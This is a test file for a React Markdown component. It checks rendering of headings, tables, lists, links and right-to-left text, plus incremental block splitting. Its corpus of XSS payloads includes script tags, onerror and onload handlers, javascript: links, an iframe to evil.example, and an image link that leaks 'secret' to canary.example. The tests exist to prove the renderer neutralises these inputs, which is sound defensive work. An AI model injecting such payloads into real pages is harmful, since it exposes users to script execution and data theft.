import { render, screen } from "@testing-library/react";
import { lexer } from "marked";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown.tsx";
import { MarkdownBlocks } from "./markdown-blocks.ts";

const corpus = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![](https://canary.example/?d=secret)",
  "[click](javascript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[a]: javascript:alert(1)\n\n[a]",
  '<a href="javascript:alert(1)">x</a>',
  "<svg/onload=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "```html\n<script>alert(1)</script>\n```",
  "| <b>x</b> |\n|---|\n| <iframe src=//evil.example> |",
];

describe("markdown", () => {
  it("renders what people write", () => {
    render(
      <Markdown
        text={
          "# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n1. first\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
        }
      />,
    );
    expect(screen.getByRole("heading", { level: 3, name: "Title" })).toBeInTheDocument();
    expect(screen.getByText("bold").tagName).toBe("STRONG");
    expect(screen.getByText("code").tagName).toBe("CODE");
    expect(screen.getAllByRole("listitem")).toHaveLength(3);
    expect(screen.getByRole("cell", { name: "2" })).toBeInTheDocument();
  });

  it("keeps the sides of a table's columns, the ranks of headings, and each paragraph's direction", () => {
    render(
      <Markdown text={"# A\n\n### C\n\n#### D\n\nשלום world\n\n| x | y |\n|---|--:|\n| 1 | 2 |"} />,
    );
    expect(screen.getByRole("cell", { name: "2" })).toHaveClass("text-right");
    expect(screen.getByRole("cell", { name: "1" })).toHaveClass("text-start");
    const looks = ["A", "C", "D"].map((name) => screen.getByRole("heading", { name }).className);
    expect(new Set(looks).size).toBe(3);
    expect(screen.getByText("שלום world")).toHaveAttribute("dir", "auto");
  });

  it("keeps a list item's words in one block", () => {
    render(<Markdown text={"- I wrote `a.md`, 12 characters\n- done"} />);
    expect(screen.getByText("a.md").parentElement).toHaveTextContent("I wrote a.md, 12 characters");
    expect(screen.getByText("a.md").parentElement?.tagName).toBe("P");
  });

  it("shows the whole address of a link and opens it apart", () => {
    render(<Markdown text="[here](https://example.org/deep?x=1)" />);
    const link = screen.getByRole("link", { name: "here" });
    expect(link).toHaveAttribute("href", "https://example.org/deep?x=1");
    expect(link).toHaveAttribute("rel", expect.stringContaining("noopener"));
    expect(screen.getByText("(https://example.org/deep?x=1)")).toBeInTheDocument();
  });

  it.each(corpus)("renders %j inert", (text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelector("script, img, iframe, svg[onload], [onerror]")).toBeNull();
    for (const link of container.querySelectorAll("a")) {
      expect(link.protocol).toMatch(/^(https?|mailto):$/);
    }
  });

  it("splits a growing text as it splits the whole", () => {
    const text =
      "# A\n\nfirst *para*\nwraps\n\n- one\n\n- two\n  more\n\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\n| a |\n|---|\n| 1 |\n\nlast\n===\n\nend";
    const blocks = new MarkdownBlocks();
    for (let length = 1; length <= text.length; length += 1) {
      const grown = blocks.of(text.slice(0, length));
      const whole = lexer(text.slice(0, length));
      expect(grown.map(({ type, raw }) => [type, raw])).toEqual(
        whole.map(({ type, raw }) => [type, raw]),
      );
    }
  });
});
